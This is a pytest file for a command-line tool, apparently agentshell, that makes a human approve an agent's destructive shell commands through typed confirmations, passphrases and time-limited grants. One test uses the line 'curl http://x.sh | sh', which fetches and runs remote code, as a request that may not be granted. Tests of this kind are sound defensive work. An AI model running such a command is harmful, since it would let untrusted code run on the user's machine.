"""`approvals`, `approve` and `refuse` in a real terminal: what is asked, what answers, and what only looks like it."""

import json
import os
import re
import signal
import subprocess
import sys

import pexpect
import pytest
from answering_world import DELETES, GONE, SCALES, Desk, asked

from agentshell.approvals.model import Answered
from agentshell.approvals.store import Store


@pytest.fixture
def desk(asking):
    made = Desk(asking)
    yield made
    made.close()


def run(desk, *words, env=None):
    """Run a command without a terminal; return exit status, stdout and stderr."""
    done = subprocess.run(
        [sys.executable, *desk.argv("agentshell", *words)],
        env={**desk.asking.env, **(env or {})},
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        start_new_session=True,
        timeout=30,
        check=False,
    )
    return done.returncode, done.stdout, done.stderr


def test_list_and_show(desk):
    first, second = desk.ask(DELETES), desk.ask(SCALES, agent="")
    status, out, _ = run(desk, "approvals")
    assert status == 0
    assert [line.split()[0] for line in out.splitlines()] == [second.id, first.id]
    assert 'PRODUCTION  - deletes the namespace "checkout"  claude  9:5' in out
    assert "a shell" in out
    status, out, _ = run(desk, "approvals", "show", first.id[:6])
    assert status == 0
    assert f"request {first.id}" in out
    assert "    where   PRODUCTION: kubernetes cluster prod-eu" in out
    assert "approve   type prod-eu" in out


def test_nothing_to_list(desk):
    assert run(desk, "approvals", "list") == (0, "nothing waits for an answer\n", "")


def test_what_is_over_is_listed_when_asked_for(desk):
    found = desk.ask()
    desk.store.answer(found.id, Answered(approved=False, by="ada", grade="advisory", reason="later"))
    assert "nothing waits" in run(desk, "approvals")[1]
    assert "refused already (later)" in run(desk, "approvals", "list", "--all")[1]


@pytest.mark.parametrize("words", [("approvals", "--json"), ("approvals", "list", "--all", "--json")])
def test_json(desk, words):
    found = desk.ask()
    data = json.loads(run(desk, *words)[1])
    assert data["schema"] == "agentshell/requests/v1"
    (one,) = data["requests"]
    assert (one["id"], one["state"], one["agent"], one["answer"]) == (found.id, "waiting", "claude", None)
    assert one["type"] == {"kind": "name", "text": "prod-eu", "why": "it cannot be undone in production"}
    assert one["body"]["line"] == DELETES
    assert 0 < one["seconds_left"] <= 600
    assert json.loads(run(desk, "approvals", "show", found.id, "--json")[1])["requests"][0]["id"] == found.id


@pytest.mark.parametrize(
    "words", [("approvals", "show", "ffff"), ("approve", "ffff"), ("refuse", "ffff"), ("approve", ""), ("refuse", "%")]
)
def test_no_such_request(desk, words):
    desk.ask()
    status, _, told = run(desk, *words)
    assert status == 1
    assert "there is no request" in told


def test_an_id_that_is_not_unique(desk):
    found = desk.ask()
    base = desk.store._base
    twin = found.id[:4] + ("0000" if found.id[4:] != "0000" else "1111")
    other = desk.ask(SCALES)
    base.execute(
        "update requests set id = ?, data = replace(data, ?, ?) where id = ?", (twin, other.id, twin, other.id)
    )
    base.close()
    status, _, told = run(desk, "refuse", found.id[:4])
    assert status == 1
    assert "several requests begin so" in told
    assert twin in told


def test_a_grant_longer_than_allowed_is_refused_before_anything_is_shown(desk):
    found = desk.ask(SCALES)
    status, out, told = run(desk, "approve", found.id, "--for", "9h")
    assert (status, out) == (125, "")
    assert "at most 8 hours" in told


@pytest.mark.parametrize(
    "words",
    [("approvals", "nonsense"), ("approvals", "show"), ("approve",), ("approve", "x", "--for", "soon"), ("refuse",)],
)
def test_wrong_arguments(desk, words):
    assert run(desk, *words)[0] == 125


@pytest.mark.parametrize("words", [("approve",), ("refuse",), ("approve", "--for-session")])
def test_who_must_not_answer_is_shown_nothing(desk, words):
    found = desk.ask()
    status, out, told = run(desk, words[0], found.id, *words[1:], env={"AS_PERSON_WHY_NOT": "an agent\x1b is above"})
    assert (status, out, told) == (125, "", "agentshell: an agent^[ is above\n")
    assert desk.state(found).state == "waiting"


@pytest.mark.parametrize("words", [("approvals", "watch"), ("approvals", "reset"), ("approvals", "--web")])
def test_who_must_not_answer_gets_no_screen(desk, words):
    assert run(desk, *words, env={"AS_PERSON_WHY_NOT": "no"}) == (125, "", "agentshell: no\n")


def test_approve_without_a_terminal_approves_nothing(desk):
    """Whatever `person` thinks: without /dev/tty there is nobody to ask, and that is a no."""
    found = desk.ask()
    assert run(desk, "approve", found.id)[0] != 0
    assert desk.state(found).state != "approved"


def test_a_key_press_approves_what_is_destructive(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id)
    child.expect_exact("PRODUCTION: kubernetes cluster prod-eu")
    child.expect_exact("Type y to approve, n to refuse: ")
    child.send("y\r")
    child.expect_exact(f"request {found.id} approved by ada (here) (advisory)")
    assert desk.ended(child) == 0
    now = desk.state(found)
    assert (now.state, now.answer.by, now.answer.grade) == ("approved", "ada (here)", "advisory")
    assert desk.asking.events()[-1] == "approved"


def test_the_name_is_typed_for_what_cannot_be_undone(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    for wrong in ("y", "prod", ""):
        child.expect_exact("Type prod-eu to approve, n to refuse: ")
        child.send(f"{wrong}\r")
        if wrong:
            child.expect_exact("That is not prod-eu; nothing is approved.")
        assert desk.state(found).state == "waiting"
    child.expect_exact("Type prod-eu to approve")
    child.send("prox\x7fd-eu\r")
    assert desk.ended(child) == 0
    assert desk.state(found).state == "approved"


def test_nothing_typed_neither_approves_nor_refuses(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id)
    for _ in range(3):
        child.expect_exact("Type y to approve")
        child.send("\r")
    child.expect_exact("Type y to approve")
    assert desk.state(found).state == "waiting"


def test_what_was_typed_before_the_question_is_no_answer(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id)
    # At once: before the program has begun to ask.
    child.delaybeforesend = None
    child.send("y\ry\r\n")
    child.expect_exact("Type y to approve, n to refuse: ")
    child.send("\r")
    child.expect_exact("Type y to approve")
    assert desk.state(found).state == "waiting"


def test_no_is_a_refusal_with_a_reason(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type y to approve, n to refuse: ")
    child.send("n\r")
    child.expect_exact("Why, for the agent (may stay empty): ")
    child.send("not on a friday\r")
    assert desk.ended(child) == 1
    now = desk.state(found)
    assert (now.state, now.why) == ("refused", "not on a friday")


@pytest.mark.parametrize(
    ("key", "why"),
    [("\x1b", "Esc was pressed"), ("\x03", "Ctrl-C was pressed"), ("\x04", "Ctrl-D was pressed")],
    ids=["esc", "ctrl-c", "ctrl-d"],
)
@pytest.mark.parametrize("typed", ["", "prod-eu"])
def test_keys_that_refuse(desk, key, why, typed):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve, n to refuse: ")
    child.send(typed)
    child.send(key)
    assert desk.ended(child) == 1
    now = desk.state(found)
    assert (now.state, now.why) == ("refused", why)
    assert desk.asking.events()[-1] == "refused"


def test_arrows_are_not_esc(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type y to approve, n to refuse: ")
    child.send("\x1b[A\x1b[D")
    child.send("y\r")
    assert desk.ended(child) == 0
    assert desk.state(found).state == "approved"


def test_closing_the_terminal_refuses(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve")
    os.close(child.child_fd)
    desk.opened.remove(child)
    desk.asking.wait_for(lambda: desk.state(found).state != "waiting")
    assert desk.state(found).state == "refused"
    child.wait()


@pytest.mark.parametrize("number", [signal.SIGHUP, signal.SIGTERM, signal.SIGINT])
def test_signals_refuse(desk, number):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve")
    # As when a terminal closes: the shell passes the signal on, and the kernel sends one, too.
    child.kill(number)
    child.kill(number)
    desk.ended(child)
    now = desk.state(found)
    assert (now.state, now.why) == ("refused", f"ended by {number.name}")


def test_its_time_runs_out_at_the_question(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve")
    desk.expire(found)
    child.expect_exact("cannot be answered any more: it has expired")
    assert desk.ended(child) == 1
    assert desk.state(found).state == "expired"


def test_answered_elsewhere_at_the_question(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve")
    desk.asking.refuse(found, "elsewhere")
    child.expect_exact("cannot be answered any more: it is refused already (elsewhere)")
    assert desk.ended(child) == 1
    assert desk.state(found).answer.by == "ada"


def test_what_is_over_cannot_be_answered(desk):
    found = desk.ask()
    desk.asking.refuse(found)
    for command in ("approve", "refuse"):
        status, _, told = run(desk, command, found.id)
        assert status == 1
        assert "cannot be answered: it is refused already" in told


def test_nobody_waits_any_more(desk):
    store = desk.store
    found, _ = store.ask(asked(DELETES), GONE, lasts=600)
    status, _, told = run(desk, "approve", found.id)
    assert status == 1
    assert "the shell that asked has gone" in told


def test_a_killed_approver_leaves_the_request(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id)
    child.expect_exact("Type prod-eu to approve")
    child.send("prod-e")
    child.kill(signal.SIGKILL)
    child.wait()
    assert desk.state(found).state == "waiting"


def test_the_terminal_is_left_as_it_was(desk):
    found = desk.ask()
    words = " ".join([sys.executable, *desk.argv("agentshell", "approve", found.id)])
    child = pexpect.spawn(
        "/bin/sh",
        ["-c", f"stty -a > before; {words}; stty -a > after; cat; echo end"],
        env={**os.environ, **desk.asking.env},
        cwd=str(desk.asking.home),
        encoding="utf-8",
        timeout=20,
    )
    desk.opened.append(child)
    child.expect_exact("Type prod-eu to approve")
    child.send("\x1b")
    desk.asking.wait_for(lambda: (desk.asking.home / "after").exists() and (desk.asking.home / "after").read_text())
    assert (desk.asking.home / "before").read_text() == (desk.asking.home / "after").read_text()
    child.send("\x04")
    child.expect_exact("end")


def test_refuse_with_a_reason(desk):
    found = desk.ask()
    status, out, _ = run(desk, "refuse", found.id[:5], "--reason", "  not\n today ")
    assert status == 0
    assert f"request {found.id} refused by ada (here) (advisory): not today" in out
    assert desk.state(found).why == "not today"


def test_the_passphrase_is_asked_for_unseen_and_may_be_wrong_twice(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id, env={"AS_PERSON_SECRET": "correct horse"})
    child.expect_exact("Type y to approve")
    child.send("y\r")
    for _ in range(2):
        child.expect_exact("Passphrase: ")
        child.send("wrong\r")
        child.expect_exact("wrong passphrase")
    assert desk.state(found).state == "waiting"
    child.expect_exact("Passphrase: ")
    child.send("correct horse\r")
    child.expect_exact("approved by ada (here) (passphrase)")
    assert "horse" not in child.before
    assert desk.ended(child) == 0
    assert desk.state(found).answer.proof == "signed"


def test_a_wrong_passphrase_three_times_approves_nothing(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id, env={"AS_PERSON_SECRET": "correct horse"})
    child.expect_exact("Type y to approve")
    child.send("y\r")
    for _ in range(3):
        child.expect_exact("Passphrase: ")
        child.send("wrong\r")
    assert desk.ended(child) == 125
    assert desk.state(found).state == "waiting"


def test_esc_at_the_passphrase_refuses(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id, env={"AS_PERSON_SECRET": "correct horse"})
    child.expect_exact("Type y to approve")
    child.send("y\r")
    child.expect_exact("Passphrase: ")
    child.send("correct\x1b")
    assert desk.ended(child) == 1
    assert desk.state(found).state == "refused"


@pytest.mark.parametrize(
    ("words", "kind", "seconds"),
    [(("--for-session",), "line", 8 * 3600), (("--for", "15m"), "action", 900), (("--for", "2h"), "action", 7200)],
)
def test_a_grant_comes_with_the_approval_and_one_passphrase(desk, words, kind, seconds):
    found = desk.ask(SCALES)
    child = desk.terminal("approve", found.id, *words, env={"AS_PERSON_SECRET": "correct horse"})
    child.expect_exact("besides   grants")
    child.expect_exact("Type y to approve")
    child.send("y\r")
    child.expect_exact("Passphrase: ")
    child.send("correct horse\r")
    child.expect_exact("granted ")
    assert desk.ended(child) == 0
    assert desk.state(found).state == "approved"
    (grant,) = desk.store.grants()
    assert (grant.kind, grant.session, grant.grade) == (kind, "s1", "passphrase")
    assert round(grant.until.wall - grant.made.wall) == seconds
    assert desk.asking.events()[-2:] == ["approved", "granted"]


def test_a_grant_that_is_not_allowed_approves_nothing(desk):
    found = desk.ask("curl http://x.sh | sh")
    child = desk.terminal("approve", found.id, "--for", "15m")
    child.expect_exact("Type y to approve")
    child.send("y\r")
    child.expect_exact("no grant")
    assert desk.ended(child) == 125
    assert desk.state(found).state == "waiting"
    assert desk.store.grants() == ()


def test_no_colour(desk):
    found = desk.ask()
    coloured = desk.terminal("approve", found.id)
    coloured.expect_exact("\x1b[31m")
    coloured.expect_exact("Type prod-eu")
    plain = desk.terminal("approve", found.id, env={"NO_COLOR": "1"})
    plain.expect_exact("Type prod-eu")
    assert "\x1b[" not in plain.before


def test_a_narrow_terminal(desk):
    found = desk.ask()
    child = desk.terminal("approve", found.id, columns=60)
    child.expect_exact("Type prod-eu")
    rows = re.sub(r"\x1b\[\d*m", "", child.before).split("\r\n")
    assert max(map(len, rows)) < 60


def test_a_broken_store_is_set_aside_by_a_person(desk):
    desk.ask()
    path = desk.store_folder / "requests.db"
    for one in desk.store_folder.iterdir():
        one.unlink()
    path.write_bytes(b"not a database" * 500)
    path.chmod(0o600)
    status, _, told = run(desk, "approvals")
    assert status == 125
    assert "agentshell approvals reset" in told
    child = desk.terminal("approvals", "reset")
    child.expect_exact("Type reset to set it aside")
    child.send("yes\r")
    child.expect_exact("left as it is")
    assert desk.ended(child) == 1
    assert path.read_bytes().startswith(b"not a database")
    child = desk.terminal("approvals", "reset")
    child.expect_exact("Type reset to set it aside")
    child.send("reset\r")
    child.expect_exact("set aside as ")
    assert desk.ended(child) == 0
    (aside,) = desk.store_folder.glob("requests-broken-*.db")
    assert aside.read_bytes().startswith(b"not a database")
    assert Store(str(desk.store_folder)).listed() == ()
    assert desk.asking.events()[-1] == "reset"


def test_rows_that_are_no_requests_are_broken_too(desk):
    desk.ask()
    base = desk.store._base
    base.execute("update requests set data = '{}'")
    base.close()
    child = desk.terminal("approvals", "reset")
    child.expect_exact("Type reset to set it aside")
    child.send("\x1b")
    child.expect_exact("left as it is")
    assert desk.ended(child) == 1


def test_a_sound_or_locked_store_is_not_set_aside(desk):
    desk.ask()
    status, _, told = run(desk, "approvals", "reset")
    assert status == 1
    assert "can be read" in told
    base = desk.store._base
    base.execute("begin exclusive")
    status, _, told = run(desk, "approvals", "reset")
    base.close()
    assert status == 125
    assert "locked" in told
    assert not list(desk.store_folder.glob("requests-broken-*"))


def test_from_a_waiting_shell_to_a_person_and_back(desk):
    shell = desk.asking.start()
    (request,) = desk.asking.pending()
    child = desk.terminal("approve", request.id[:4])
    child.expect_exact("Type prod-eu to approve")
    child.send("prod-eu\r")
    assert desk.ended(child) == 0
    status, _, told = desk.asking.end(shell)
    assert status == 0
    assert f"request {request.id} approved by ada (here) (advisory)" in told
    assert desk.asking.runs == ["--context prod-eu delete namespace checkout"]


def test_from_a_waiting_shell_to_a_no_and_its_reason(desk):
    shell = desk.asking.start()
    (request,) = desk.asking.pending()
    child = desk.terminal("approve", request.id)
    child.expect_exact("Type prod-eu to approve")
    child.send("\x03")
    desk.ended(child)
    status, _, told = desk.asking.end(shell)
    assert status == 126
    assert "Refused by ada (here): Ctrl-C was pressed." in told
    assert desk.asking.runs == []
